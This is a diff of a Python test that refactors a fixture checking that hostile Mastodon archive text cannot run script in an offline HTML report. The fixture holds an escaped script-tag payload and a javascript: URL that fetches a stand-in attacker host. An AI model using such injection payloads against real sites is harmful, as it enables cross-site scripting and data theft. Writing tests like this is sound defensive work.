@@ -325,24 +325,15 @@ def test_a_repository_whose_tree_points_back_at_itself_ends(tmp_path: Path) -> N
 
 
 def test_hostile_archive_text_cannot_script_the_offline_report(tmp_path: Path) -> None:
-    from tests.archive_builders import ACTOR, PUBLIC, mastodon_outbox
+    from tests.archive_builders import mastodon_outbox, public_note
 
     items = [
-        {
-            "type": "Create",
-            "actor": ACTOR,
-            "to": [PUBLIC],
-            "cc": [],
-            "object": {
-                "id": f"{ACTOR}/statuses/9",
-                "type": "Note",
-                "to": [PUBLIC],
-                "cc": [],
-                "content": "<p>Mrs. Delgado &lt;script&gt;alert(1)&lt;/script&gt; in room 412</p>",
-                "published": "2023-05-01T10:00:00",
-                "url": "javascript:fetch('https://evil.example')",
-            },
-        },
+        public_note(
+            9,
+            "<p>Mrs. Delgado &lt;script&gt;alert(1)&lt;/script&gt; in room 412</p>",
+            "2023-05-01T10:00:00",
+            url="javascript:fetch('https://evil.example')",
+        )
     ]
     archive = _zip(tmp_path / "m.zip", {"outbox.json": mastodon_outbox(items).encode(), "actor.json": b"{}"})
     out = tmp_path / "r.html"
